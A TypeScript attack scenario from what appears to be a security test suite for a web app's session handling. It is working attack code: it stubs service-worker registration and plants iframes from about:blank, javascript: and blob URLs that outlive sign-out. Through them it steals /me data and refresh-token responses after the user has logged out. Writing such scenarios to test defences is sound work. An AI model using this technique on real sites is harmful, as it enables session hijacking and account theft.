import { attack } from "../attack.js";

const unregisteredVault = attack({
  name: "a vault that script has unregistered, which outlives the sign-out in a frame",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook() {
    // The app must not notice: without its worker it would leave the page for a new session, and end the payload.
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
  },
  async payload(it) {
    const own = globalThis as { vaults?: (typeof globalThis)[] };
    if (!own.vaults) {
      // The vault that comes after this one claims documents by their URL. These have none of their own.
      const frames = [
        "about:blank",
        "javascript:void 0",
        URL.createObjectURL(new Blob([""], { type: "text/html" })),
      ];
      own.vaults = [globalThis];
      for (const src of frames) {
        const frame = document.createElement("iframe");
        frame.src = src;
        document.body.append(frame);
        await it.pause(200);
        try {
          const inside = frame.contentWindow as unknown as typeof globalThis;
          await inside.fetch("/auth/events");
          own.vaults.push(inside);
        } catch {
          // The policy is in its way.
        }
      }
      await fetch("/auth/events");
      for (const registration of await navigator.serviceWorker.getRegistrations())
        await registration.unregister();
      return;
    }
    for (const vault of own.vaults) {
      it.steal(await (await vault.fetch(`${it.apiUrl}me`).catch(() => undefined))?.text());
      it.steal(await (await vault.fetch("/auth/refresh", { method: "POST" }).catch(() => undefined))?.text());
      it.steal(await (await vault.fetch(`${it.apiUrl}me`).catch(() => undefined))?.text());
    }
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([unregisteredVault]);
    await stage.openUnconnected();
    await stage.inject();
    await stage.closeThisTab(await stage.signOutInAnotherWindow());
    await stage.inject();
  },
  gain: async (stage) => stage.requestAsTheUser(),
});

export default unregisteredVault;
